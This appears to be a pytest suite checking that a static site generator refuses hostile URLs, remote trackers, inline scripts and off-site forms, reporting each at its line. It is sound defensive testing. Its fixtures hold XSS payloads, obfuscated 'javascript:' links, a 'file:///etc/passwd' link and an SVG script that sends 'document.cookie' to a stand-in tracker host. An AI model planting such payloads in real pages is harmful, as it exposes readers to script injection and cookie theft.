"""One URL policy for every address in every file, and the privacy promise enforced: each hostile case
names file:line, exits 1 (or warns), prints no traceback and leaves the previous output byte for byte."""

from __future__ import annotations

import json

import pytest

from generator.cli import main
from generator.headers import content_security_policy, parse_headers_file
from generator.markup.convert import convert
from generator.urlpolicy import check_url, examine
from tests.sitekit import AUTHORS_YAML, SITE_YAML, article, built_copy, make_site, snapshot

# Body lines start at 8 in sitekit.article() (front matter lines 1-7).


def body(text: str) -> dict[str, str]:
    return {"a.md": article(body=text)}


def build(site, capsys, *args):
    code = main(["build", "--site", str(site), *args])
    return code, capsys.readouterr().err


@pytest.mark.parametrize("url,scheme,host,refused", [
    ("https://example.org/a", "https", "example.org", False),
    ("HTTPS://Example.ORG:8443/a", "https", "example.org", False),
    ("//cdn.example/x.png", "", "cdn.example", False),
    ("\\\\evil.example\\x.png", "", "evil.example", False),
    ("https:tracker.example/p.gif", "https", "tracker.example", False),
    ("https://hub.example@tracker.example/p.gif", "https", "tracker.example", True),   # (a user name: refused)
    ("/articles/x/", "", "", False),
    ("#refs", "", "", False),
    ("mailto:a@example.org", "mailto", "", False),
    ("tel:+44116123", "tel", "", False),
    ("sms:85258", "sms", "", False),
    ("javascript:alert(1)", "javascript", "", True),
    ("JaVaScRiPt:alert(1)", "javascript", "", True),
    ("java\tscript:alert(1)", "javascript", "", True),
    ("java\nscript:alert(1)", "javascript", "", True),
    ("&#106;avascript:alert(1)", "javascript", "", True),
    ("javascript&colon;alert(1)", "javascript", "", True),
    (" \x01\x1fjavascript:alert(1)", "javascript", "", True),
    ("data:text/html,<b>x</b>", "data", "", True),
    ("vbscript:msgbox", "vbscript", "", True),
    ("file:///etc/passwd", "file", "", True),
    ("https://", "https", "", True),
])
def test_examine_reads_addresses_as_a_browser_does(url, scheme, host, refused):
    found = examine(url)
    assert (found.scheme, found.host, bool(found.problem)) == (scheme, host, refused)


# (name, files for make_site, changes to site.yaml / authors, "path:line:col" or "path:line", words)
HOSTILE = [
    ("markdown javascript link", body("Read [this](javascript:alert(1)) now."), {},
     "articles/a.md:8:6", ["'javascript:' addresses are not allowed", "unsafe-url"]),
    ("raw html entity and tab obfuscation", body('See <a href="JaVa&#x09;ScRiPt:alert(1)">this</a>.'), {},
     "articles/a.md:8:5", ["'javascript:' addresses are not allowed"]),
    ("leading newline and space", body('x <a href=" &#x0A;javascript:alert(1)">y</a>'), {},
     "articles/a.md:8:3", ["'javascript:'"]),
    ("data image", body("![a dot](data:image/png;base64,AAAA)"), {}, "articles/a.md:8:1", ["'data:'"]),
    ("vbscript image src", body('<img src="vbscript:x" alt="x">'), {}, "articles/a.md:8:1", ["'vbscript:'"]),
    ("file link", body("[passwords](file:///etc/passwd)"), {}, "articles/a.md:8:1", ["'file:'"]),
    ("blockquote cite", body('<blockquote cite="javascript:alert(1)">q</blockquote>'), {},
     "articles/a.md:8:1", ["'javascript:'"]),
    ("remote markdown image", body("Intro.\n\n![pixel](https://tracker.example/p.gif)"), {},
     "articles/a.md:10:1", ["tracker.example", "download the file into static/", "remote-resource"]),
    ("protocol-relative image", body('<img src="//cdn.example/a.png" alt="a">'), {},
     "articles/a.md:8:1", ["cdn.example"]),
    ("backslash host image", body('<img src="\\\\evil.example\\x.png" alt="x">'), {},
     "articles/a.md:8:1", ["evil.example"]),
    ("userinfo pretends to be the hub", body("![x](https://test.example.org@tracker.example/p.gif)"), {},
     "articles/a.md:8:1", ["tracker.example"]),
    ("scheme without slashes", body('<img src="https:tracker.example/p.gif" alt="x">'), {},
     "articles/a.md:8:1", ["tracker.example"]),
    ("srcset entry", body('<img src="/static/favicon.svg" srcset="/static/favicon.svg 1x, https://cdn.example/b.png 2x" alt="x">'),
     {}, "articles/a.md:8:1", ["cdn.example"]),
    ("picture source", body('<picture><source srcset="https://cdn.example/a.webp"><img src="/static/favicon.svg" alt="a"></picture>'),
     {}, "articles/a.md:8:10", ["cdn.example"]),
    ("video poster", body('Text.\n\n<video poster="https://media.example/p.jpg"></video>'), {},
     "articles/a.md:10:1", ["media.example"]),
    ("audio source", body('<audio src="https://media.example/a.mp3"></audio>'), {}, "articles/a.md:8:1", ["media.example"]),
    ("track", body('<video><track src="https://media.example/t.vtt"></video>'), {}, "articles/a.md:8:8", ["media.example"]),
    ("iframe video", body('<iframe src="https://www.youtube.com/embed/x"></iframe>'), {},
     "articles/a.md:8:1", ["www.youtube.com"]),
    ("embed and object", body('<object data="https://evil.example/x.swf"></object>'), {}, "articles/a.md:8:1", ["evil.example"]),
    ("stylesheet link in body", body('<link rel="stylesheet" href="https://fonts.example/css">'), {},
     "articles/a.md:8:1", ["fonts.example"]),
    ("style attribute background", body('<p style="background:url(https://tracker.example/bg.png)">x</p>'), {},
     "articles/a.md:8:1", ["tracker.example"]),
    ("greater-than inside a quoted alt", body('<img alt="a>b" src="https://tracker.example/p.gif">'), {},
     "articles/a.md:8:1", ["tracker.example"]),
    ("commented-out tags are not reported, real ones are", body('<!-- <iframe src="/x"></iframe> -->\n\n![x](//t.example/p.gif)'), {},
     "articles/a.md:10:1", ["t.example"]),
    ("remote image: in front matter", {"a.md": article(extra="image: https://tracker.example/hero.jpg\nimage_alt: A hero")},
     {}, "articles/a.md:7:1", ["tracker.example", "remote-resource"]),
    ("javascript image:", {"a.md": article(extra="image: javascript:alert(1)\nimage_alt: x")}, {},
     "articles/a.md:7:1", ["'javascript:'"]),
    ("missing local image:", {"a.md": article(extra="image: /static/images/nope.png\nimage_alt: x")}, {},
     "articles/a.md:7:1", ["no such file in static/", "missing-image"]),
    ("relative image:", {"a.md": article(extra="image: images/hero.png\nimage_alt: x")}, {},
     "articles/a.md:7:1", ["not a picture this hub publishes", "/static/images/"]),
    ("author link", None, {"authors": AUTHORS_YAML.replace("links: []", 'links: [{title: Home, url: "javascript:alert(1)"}]')},
     "data/authors.yaml:5:30", ["'javascript:'", "author 'alex-example'"]),
    ("author link in upper case with spaces", None,
     {"authors": AUTHORS_YAML.replace("links: []", "links:\n    - title: Home\n      url: '  JAVASCRIPT:alert(1)'")},
     "data/authors.yaml:7:12", ["'javascript:'"]),
    ("publisher url", None, {"site": SITE_YAML.replace("url: https://test.example.org/about/", "url: 'javascript:alert(1)'")},
     "site.yaml:6:", ["publisher.url", "'javascript:'"]),
    ("crisis resource url", None, {"site": SITE_YAML.replace("url: https://helpline.example.org/", "url: 'data:text/html,x'")},
     "site.yaml:23:12", ["crisis resource url", "'data:'"]),
    ("extra url a template may use", None, {"site": SITE_YAML + "extra:\n  donate:\n    url: 'javascript:alert(1)'\n"},
     "site.yaml:27:10", ["extra.donate.url", "'javascript:'"]),
    ("front matter extra url", {"a.md": article(extra="extra:\n  video_url: 'javascript:alert(1)'")}, {},
     "articles/a.md:7:1", ["extra.video_url", "'javascript:'"]),
    ("reference URL in front matter", {"a.md": article(extra="references:\n  - id: x\n    title: T\n    URL: 'javascript:alert(1)'")},
     {}, "articles/a.md:8:", ["the `URL` of reference", "'javascript:' scheme"]),
    ("reference URL obfuscated with an entity", {"a.md": article(extra="references:\n  - id: x\n    title: T\n    URL: '&#106;avascript:alert(1)'")},
     {}, "articles/a.md:8:", ["the `URL` of reference", "'javascript:' scheme"]),
    ("reference DOI", {"a.md": article(extra="references:\n  - id: x\n    title: T\n    DOI: 'javascript:alert(1)'")},
     {}, "articles/a.md:8:", ["the `DOI` of reference", "'javascript:'"]),
    ("shared bibliography URL", None,
     {"refs": "references:\n  - id: x\n    type: webpage\n    title: T\n    URL: 'data:text/html,x'\n"},
     "data/references.yaml:5:10", ["'data:' scheme"]),
    ("css import", None, {"css": "body { color: red; }\n@import url('https://fonts.example/a.css');\n"},
     "static/css/extra.css:2:1", ["fonts.example"]),
    ("css url", None, {"css": "p {\n  background: url(//tracker.example/p.png);\n}\n"},
     "static/css/extra.css:2:15", ["tracker.example"]),
    ("css url hidden by an escape", None, {"css": "/* url(https://in-a-comment.example/x) */\np { background: \\75 rl(https://esc.example/p.png); }\n"},
     "static/css/extra.css:2:17", ["esc.example"]),
    ("css image-set string", None, {"css": "p {\n  background-image: image-set(\"https://set.example/a.png\" 1x);\n}\n"},
     "static/css/extra.css:2:21", ["set.example"]),
    ("static html page with a tracker", None,
     {"static": ("embed.html", "<!doctype html>\n<p>hi</p>\n<img src='https://tracker.example/p.gif'>\n")},
     "static/embed.html:3:1", ["tracker.example"]),
    ("static svg pulling a remote image", None,
     {"static": ("logo.svg", '<svg xmlns="http://www.w3.org/2000/svg">\n  <image href="https://cdn.example/l.png"/>\n</svg>\n')},
     "static/logo.svg:2:3", ["cdn.example"]),
    ("static svg with a script", None,
     {"static": ("logo.svg", '<svg xmlns="http://www.w3.org/2000/svg">\n<!-- <script>old()</script> -->\n'
                             "  <script>fetch('https://tracker.example/?c=' + document.cookie)</script>\n</svg>\n")},
     "static/logo.svg:3:3", ["<script>", "runs on the hub's address", "inline-script"]),
    ("static svg with an event attribute", None,
     {"static": ("logo.svg", '<svg xmlns="http://www.w3.org/2000/svg">\n  <rect width="9" onload="go()"/>\n</svg>\n')},
     "static/logo.svg:2:3", ["onload", "inline-script"]),
    ("static html with a style element", None,
     {"static": ("embed.html", "<!doctype html>\n<style>\n  @import 'https://fonts.example/a.css';\n</style>\n")},
     "static/embed.html:2:1", ["fonts.example"]),
    ("site.yaml extra logo from another host", None, {"site": SITE_YAML + "extra:\n  logo: https://cdn.example/logo.png\n"},
     "site.yaml:25:1", ["extra.logo", "cdn.example"]),
    ("upper-case unquoted img", body("<IMG SRC=https://tracker.example/p.gif ALT=x>"), {}, "articles/a.md:8:1", ["tracker.example"]),
    ("reference-style image", body("Text ![pixel][px] here.\n\n[px]: https://tracker.example/p.gif"), {},
     "articles/a.md:10:", ["tracker.example"]),
    ("template script from a cdn", None, {"template": '<script src="https://cdn.example/lib.js"></script>'},
     "templates/404.html:2:1", ["cdn.example"]),
    ("allowed host over plain http", {"a.md": article(body="![A lake](http://media.example.org/lake.jpg)")},
     {"site": SITE_YAML + "privacy: {allow_hosts: [media.example.org]}\n"},
     "articles/a.md:8:1", ["over plain http", "https://media.example.org/lake.jpg"]),
    ("allowed host is not a host", None, {"site": SITE_YAML + "privacy: {allow_hosts: ['https://cdn.example/x']}\n"},
     "site.yaml:25:24", ["is not a host name", "bad-allowed-host"]),
]


def _apply(site, changes: dict[str, str]) -> None:
    if "authors" in changes:
        (site / "data" / "authors.yaml").write_text(changes["authors"])
    if "site" in changes:
        (site / "site.yaml").write_text(changes["site"])
    if "refs" in changes:
        (site / "data" / "references.yaml").write_text(changes["refs"])
    if "css" in changes:
        (site / "static" / "css" / "extra.css").write_text(changes["css"])
    if "static" in changes:
        name, text = changes["static"]
        (site / "static" / name).write_text(text)
    if "template" in changes:
        (site / "templates" / "404.html").write_text("{# hostile #}\n" + changes["template"] + "\n")


@pytest.mark.parametrize("name,files,changes,where,words", HOSTILE, ids=[h[0] for h in HOSTILE])
def test_hostile_address_is_an_error_at_its_line(tmp_path, capsys, name, files, changes, where, words):
    site = built_copy(tmp_path / "s")            # the fixture hub as `haven build` left it
    assert build(site, capsys)[0] == 0            # (and it builds clean: nothing to do)
    before = snapshot(site / "output")
    for fname, text in (files or {}).items():
        (site / "articles" / fname).write_text(text)
    _apply(site, changes)
    code, err = build(site, capsys)
    assert code == 1, err
    assert "Traceback" not in err
    hits = [line for line in err.splitlines() if line.startswith(where) and ": error: " in line]
    assert hits, f"no error at {where}:\n{err}"
    for word in words:
        assert any(word in hit for hit in hits), (word, hits)
    assert " - " in hits[0], "the error says how to fix it"
    assert snapshot(site / "output") == before, "a failed build leaves the output as it was"


def test_author_page_never_links_a_refused_address(tmp_path, capsys):
    from generator.authors import load_authors

    site = make_site(tmp_path / "s", authors_yaml=AUTHORS_YAML.replace(
        "links: []", 'links: [{title: Bad, url: "javascript:alert(1)"}, {title: Good, url: "https://example.org/"}]'))
    authors, findings, _ = load_authors(site)
    assert [f.code for f in findings] == ["unsafe-url"]
    assert authors["alex-example"].links == (("Good", "https://example.org/"),)


@pytest.mark.parametrize("markup,tag,words", [
    ('<iframe src="/about/"></iframe>', "iframe", ["embedded content", "link to it instead"]),
    ("<script>alert(1)</script>", "script", ["scripts never run"]),
    ("<style>p { color: red }</style>", "style", ["static/css/haven.css"]),
    ('<form action="/x"><input name="q"></form>', "form", ["cannot collect what readers type"]),
    ('<p onclick="alert(1)">x</p>', "onclick", ["scripts never run"]),
    ('<svg><circle r="4"/></svg>', "svg", ["save it as a file in static/"]),
    ('<marquee>x</marquee>', "marquee", ["not one of the elements articles may use"]),
])
def test_what_the_sanitizer_removes_is_a_warning_that_says_why(tmp_path, capsys, markup, tag, words):
    site = make_site(tmp_path / "s", body("Intro.\n\n" + markup))
    code, err = build(site, capsys)
    assert code == 0, err
    warnings = [line for line in err.splitlines() if line.startswith("articles/a.md:10:") and "stripped-html" in line]
    assert warnings and tag in warnings[0], err
    for word in words:
        assert any(word in w for w in warnings), (word, warnings)
    page = (site / "output" / "articles" / "a" / "index.html").read_text()
    for leftover in ("<iframe", "alert(1)", "color: red", "<form", "<input", "<circle", "<marquee"):
        assert leftover not in page


def test_links_to_other_sites_and_own_host_files_are_allowed(tmp_path, capsys):
    site = make_site(tmp_path / "s", {"a.md": article(
        extra="image: /static/favicon.svg\nimage_alt: The Haven mark",
        body="See [the NHS](https://www.nhs.uk/), [mail](mailto:a@example.org), [call](tel:+44116123), "
             "[text](sms:85258).\n\n![The mark](https://test.example.org/static/favicon.svg)\n")})
    code, err = build(site, capsys)
    assert code == 0 and ": error: " not in err, err
    page = (site / "output" / "articles" / "a" / "index.html").read_text()
    assert 'href="https://www.nhs.uk/"' in page and 'href="sms:85258"' in page
    assert 'src="/static/favicon.svg"' in page


def test_allowed_hosts_pass_and_the_csp_names_exactly_them(tmp_path, capsys):
    site = make_site(tmp_path / "s", {"a.md": article(
        extra="image: https://media.example.org/hero.jpg\nimage_alt: A lake",
        body="![A lake](https://media.example.org/lake.jpg)\n\n![A pixel](https://tracker.example/p.gif)\n")},
        site_yaml=SITE_YAML + "privacy:\n  allow_hosts: [media.example.org, Fonts.Example.NET]\n")
    code, err = build(site, capsys, "--headers")
    assert code == 1
    assert "media.example.org" not in err and "articles/a.md:12:1: error:" in err and "tracker.example" in err
    (site / "articles" / "a.md").write_text(article(
        extra="image: https://media.example.org/hero.jpg\nimage_alt: A lake", body="![A lake](https://media.example.org/lake.jpg)\n"))
    code, err = build(site, capsys, "--headers")
    assert code == 0, err
    rules = dict(parse_headers_file((site / "output" / "_headers").read_text()))
    policy = dict(part.strip().split(" ", 1) for part in dict(rules["/*"])["Content-Security-Policy"].split(";"))
    assert policy["img-src"] == "'self' https://media.example.org https://fonts.example.net"
    assert policy["font-src"] == "'self' https://media.example.org https://fonts.example.net"
    others = {k: v for k, v in policy.items() if k not in ("img-src", "font-src")}
    assert not any("example" in v for v in others.values()), others
    assert content_security_policy() == content_security_policy(())   # no hosts: the strict default


def test_every_removed_thing_is_reported_even_in_a_long_body():
    # past the precise-placement budget the notes keep coming (placed at the last known line)
    text = "\n\n".join(f'<img src="https://t{i}.example/p.gif" alt="x">' for i in range(600))
    notes = convert(text).html_notes
    assert len([n for n in notes if n.kind == "fetch"]) == 600
    assert notes[0].line == 1 and notes[499].line == 999


def test_a_literal_address_the_page_check_finds_names_its_template_line(tmp_path, capsys):
    site = make_site(tmp_path / "s")
    (site / "templates" / "404.html").write_text('<p>Not here.</p>\n<img src="https://cdn.example/x.png" alt="">\n')
    code, err = build(site, capsys)
    assert code == 1 and "Traceback" not in err, err
    hit = next(line for line in err.splitlines() if ": error: " in line)
    assert hit.startswith("templates/404.html:2:1: error: ") and "cdn.example" in hit, hit
    # lowered in site.yaml, it is published, reported once at that line (the template's text and the
    # rendered page are both checked; the page check does not say it again)
    (site / "site.yaml").write_text((site / "site.yaml").read_text() + "checks: {remote-resource: warning}\n")
    code, err = build(site, capsys)
    assert code == 0, err
    assert [line for line in err.splitlines() if "cdn.example" in line and ": warning: " in line] == [
        next(line for line in err.splitlines() if line.startswith("templates/404.html:2:1: warning: "))], err
    assert 'src="https://cdn.example/x.png"' in (site / "output" / "404.html").read_text()


@pytest.mark.parametrize("markup", [
    "<script>navigator.sendBeacon('https://tracker.example/p', location.href)</script>",
    '<p onclick="navigator.sendBeacon(\'https://tracker.example/p\')">Thanks for reading</p>',
])
def test_a_template_that_writes_code_into_pages_is_an_error_at_its_line(tmp_path, capsys, markup):
    site = make_site(tmp_path / "s")
    assert build(site, capsys)[0] == 0
    before = snapshot(site / "output")
    base = site / "templates" / "base.html"
    base.write_text(base.read_text().replace("</footer>", "</footer>\n" + markup, 1))
    code, err = build(site, capsys)
    assert code == 1 and "Traceback" not in err, err
    hit = next(line for line in err.splitlines() if ": error: " in line)
    line = 1 + next(n for n, text in enumerate(base.read_text().splitlines()) if markup in text)
    assert hit.startswith(f"templates/base.html:{line}:1: error: <") and " on the page /" in hit, hit
    assert "[inline-script]" in hit and "static/" in hit
    assert snapshot(site / "output") == before


@pytest.mark.parametrize("markup,noted", [
    ('<link rel="canonical" href="https://hub.example/a/">', []),
    ('<link rel="alternate" hreflang="es" href="https://hub.example/es/a/">', []),
    ('<a href="https://hub.example/feedback/?page=a&amp;title=b">', []),
    ('<link rel="alternate stylesheet" href="https://cdn.example/a.css">', ["https://cdn.example/a.css"]),
    ('<link rel="canonical" REL="stylesheet" href="https://cdn.example/a.css">', []),
    ('<link REL="stylesheet" rel="canonical" href="https://cdn.example/a.css">', ["https://cdn.example/a.css"]),
    ('<img SRC="https://cdn.example/a.png" alt="">', ["https://cdn.example/a.png"]),
    ('<img src="/a.png" src="https://cdn.example/b.png" alt="">', ["https://cdn.example/b.png"]),
    ('<a HREF="javascript:alert(1)">', ["javascript:alert(1)"]),
    # a base address moves every relative address of the page to its host
    ('<base href="https://cdn.example/">', ["https://cdn.example/"]),
    ('<base href="/hub/">', []),
    # a link's ping is a request sent to its host; a frame's srcdoc is a page of its own
    ('<a href="/a/" ping="/count https://tracker.example/p">', ["https://tracker.example/p"]),
    ('<iframe title="x" srcdoc="&lt;img src=&quot;https://cdn.example/a.png&quot;&gt;"></iframe>',
     ["https://cdn.example/a.png"]),
    # the CSS of a style element (comments and other elements' text left out, as a browser reads it)
    ("<style>/* url(https://old.example/x.png) */ body { background: url('https://cdn.example/bg.png') }</style>",
     ["https://cdn.example/bg.png"]),
    ("<style>@import 'https://cdn.example/a.css'; p { color: red }</style>", ["https://cdn.example/a.css"]),
    ("<!-- <style>@import 'https://cdn.example/a.css';</style> --><style>p { color: red }</style>", []),
    # a refresh sends the reader on without their choosing; SVG fetches with href
    ('<meta http-equiv="Refresh" content="0; URL=\'https://cdn.example/next\'">', ["https://cdn.example/next"]),
    ('<meta http-equiv="refresh" content="0; url=/articles/a/">', []),
    ('<meta name="description" content="https://cdn.example/">', []),
    ('<svg><script href="https://cdn.example/a.js"></script></svg>', ["https://cdn.example/a.js"]),
    ('<svg><filter id="f"><feImage href="https://cdn.example/a.png"/></filter></svg>', ["https://cdn.example/a.png"]),
    ('<svg><a><set attributeName="href" to="javascript:go()"/><text>x</text></a></svg>', ["javascript:go()"]),
    ('<svg><animate attributeName="x" values="0;10" dur="1s"/></svg>', []),
])
def test_a_rendered_page_is_read_as_a_browser_reads_it(markup, noted):
    from generator.markup.htmlscan import page_addresses

    assert [note.value for note in page_addresses(f"<p>x</p>\n{markup}\n")] == noted
    assert [note.value for note in page_addresses(f"<p>x</p>\n{markup}\n")] == noted   # remembered the same


@pytest.mark.parametrize("markup,refused", [
    ("<script>fetch('/count')</script>", True),
    ('<script type="module">import "/static/a.js";</script>', True),
    ('<script type="importmap">{"imports": {"a": "https://cdn.example/a.js"}}</script>', True),
    ('<SCRIPT TYPE="Application/LD+JSON">{"@type": "Article"}</SCRIPT>', False),
    ('<script src="/static/a.js" defer></script>', False),
    ("<script>\n  \n</script>", False),
    ('<img src="/a.png" alt="" onerror="fetch(\'/count\')">', True),
    ('<iframe title="t" srcdoc="&lt;p onclick=&quot;go()&quot;&gt;x&lt;/p&gt;"></iframe>', True),
])
def test_code_written_into_a_page_is_refused_and_data_is_not(markup, refused):
    from generator.markup.htmlscan import page_addresses

    assert [(n.line, n.col, n.kind) for n in page_addresses(f"<p>x</p>\n<!-- a\n -->\n{markup}\n")] == \
        ([(3, 1, "script")] if refused else [])


def test_images_the_sanitizer_keeps_are_checked_even_when_the_scan_reads_markup_differently():
    from generator.checks.urls import allowed_hosts, body_findings
    from generator.model import LinkRef

    shipped = [LinkRef("https://tracker.example/p.gif", 3, 5, "image")]
    [finding] = body_findings("articles/a.md", (), 8, allowed_hosts("https://hub.example/", ()), shipped)
    assert (finding.line, finding.col, finding.code) == (10, 5, "remote-resource")
    assert "tracker.example" in finding.message


@pytest.mark.parametrize("extra,markup,words", [
    ("banner: https://cdn.example/banner.png", '<img src="{{ config.extra.banner }}" alt="">', ["cdn.example"]),
    ("donate: 'javascript:alert(1)'", '<a href="{{ config.extra.donate }}">Donate</a>', ["'javascript:'"]),
    ("font: https://fonts.example/a.css", '<link rel="stylesheet" href="{{ config.extra.font }}">', ["fonts.example"]),
    # attribute names are case-blind in a browser; of two `rel`s, a browser reads the first
    ("banner: https://cdn.example/banner.png", '<img SRC="{{ config.extra.banner }}" alt="">', ["cdn.example"]),
    ("font: https://fonts.example/a.css", '<link REL="stylesheet" rel="canonical" href="{{ config.extra.font }}">',
     ["fonts.example"]),
    ("base: https://cdn.example/", '<base href="{{ config.extra.base }}">', ["cdn.example"]),
    ("banner: https://cdn.example/banner.png", "<style>p { background: url({{ config.extra.banner }}) }</style>",
     ["cdn.example"]),
    # a form sends what readers type (a search about their health) to the host it names
    ("finder: https://search.example/q", '<form action="{{ config.extra.finder }}"><input name="q" aria-label="q">'
     "</form>", ["search.example", "sends what readers type", "[offsite-form]"]),
    ("finder: //search.example/q", '<form method="post"><button formaction="{{ config.extra.finder }}">Go</button>'
     "</form>", ["search.example", "[offsite-form]"]),
])
def test_addresses_a_template_computes_are_checked_on_the_rendered_page(tmp_path, capsys, extra, markup, words):
    site = make_site(tmp_path / "s", site_yaml=SITE_YAML + f"extra:\n  {extra}\n")
    assert build(site, capsys)[0] == 0   # nothing uses the value yet
    before = snapshot(site / "output")
    base = site / "templates" / "base.html"
    base.write_text(base.read_text().replace("</footer>", markup + "</footer>", 1))
    code, err = build(site, capsys)
    assert code == 1 and "Traceback" not in err, err
    hit = next(line for line in err.splitlines() if ": error: " in line)
    line = 1 + next(n for n, text in enumerate(base.read_text().splitlines()) if markup in text)
    assert hit.startswith(f"templates/base.html:{line}:1: error: ") and "on the page /" in hit, hit
    for word in words:
        assert word in hit, (word, hit)
    assert "comes from this template or the data it shows" in hit
    assert snapshot(site / "output") == before


@pytest.mark.parametrize("markup", [
    '<meta name="referrer" content="{{ config.extra.policy }}">',
    '<a href="https://example.org/" REFERRERPOLICY="{{ config.extra.policy }}">x</a>',
    "<META CONTENT={{ config.extra.policy }} NAME=Referrer>",
])
def test_a_referrer_policy_that_names_the_page_to_other_sites_is_an_error_at_its_line(tmp_path, capsys, markup):
    # the address of the article a reader was on says what they were reading
    site = make_site(tmp_path / "s", site_yaml=SITE_YAML + "extra:\n  policy: unsafe-url\n")
    base = site / "templates" / "base.html"
    base.write_text(base.read_text().replace("</footer>", markup + "</footer>", 1))
    code, err = build(site, capsys)
    line = 1 + next(n for n, text in enumerate(base.read_text().splitlines()) if markup in text)
    hit = next(text for text in err.splitlines() if ": error: " in text)
    assert code == 1 and hit.startswith(f"templates/base.html:{line}:1: error: <") and "[referrer-leak]" in hit, err
    assert "'unsafe-url'" in hit and not (site / "output").exists()


def test_a_form_may_post_to_the_hub_itself_and_nowhere_else():
    from generator.checks.urls import allowed_hosts, page_findings

    allowed = allowed_hosts("https://hub.example/", ("media.example",))

    def where(tag, attribute, text):
        return "templates/base.html", 3

    mine = '<form action="/search/"></form><form action="https://hub.example/s/"><button formaction="?q=1">Go</button></form>'
    assert page_findings(mine, "/x/", allowed, where) == []
    quiet = '<meta name="referrer" content="no-referrer"><a href="https://example.org/" referrerpolicy="same-origin">x</a>'
    assert page_findings(quiet, "/x/", allowed, where) == []
    [bad] = page_findings('<form action="https://media.example/s/"></form>', "/x/", allowed, where)
    assert (bad.path, bad.line, bad.code) == ("templates/base.html", 3, "offsite-form")   # allow_hosts is for files


@pytest.mark.parametrize("base_url,words", [
    # written as it is into every page's links, feeds, the sitemap and robots.txt
    ('https://x.example/a" onmouseover="alert(1)/', "path Haven cannot write"),
    ("https://x.example/<b>hub</b>/", "path Haven cannot write"),
    ("https://x.example/my hub/", "path Haven cannot write"),
    ("https://x.example/../", "path Haven cannot write"),
    ("https://x.example/caf%C3%A9/", "path Haven cannot write"),
    ("https://editor:secret@x.example/", "user name or password"),
    ("https://x.example/?utm=1", "? or # part"),
    ("https://x.example/#top", "? or # part"),
    ("https://x.example:99999/", "port from 1 to 65535"),
    ("https://x_y!.example/", "does not name a host"),
    ("ftp://x.example/", "not an http(s) address"),
])
def test_a_base_url_that_cannot_be_written_into_every_page_is_refused(tmp_path, capsys, base_url, words):
    site = make_site(tmp_path / "s", site_yaml=SITE_YAML.replace("base_url: https://test.example.org/",
                                                                 f"base_url: {json.dumps(base_url)}", 1))
    code, err = build(site, capsys)
    line = 1 + next(n for n, text in enumerate((site / "site.yaml").read_text().splitlines())
                    if text.startswith("base_url:"))
    assert code == 1 and f"site.yaml:{line}:" in err and "[bad-base-url]" in err and words in err, err
    assert not (site / "output").exists()


@pytest.mark.parametrize("base_url", ["https://x.example/", "https://x.example/hub/", "https://x.example/a_b~c.d-e",
                                      "http://localhost:8000/", "https://[::1]:8443/"])
def test_plain_base_urls_are_taken(base_url):
    from generator.config import base_url_problem

    assert base_url_problem(base_url) == ""


@pytest.mark.parametrize("url", ["https://user:secret@tracker.example/", "https://trusted.example@other.example/page",
                                 "//who@cdn.example/x.png", "HTTP://a:b@c.example"])
def test_an_address_with_a_user_name_before_its_host_is_refused(url):
    """'https://trusted.example@other.example/' goes to other.example, whatever a reader takes it for."""
    finding = check_url(url, "articles/a.md", 3, 5, "link")
    assert finding is not None and finding.code == "unsafe-url" and "user name or password" in finding.message
    assert check_url("https://example.org/a@b?q=c@d#e@f", "articles/a.md", 3, 5, "link") is None
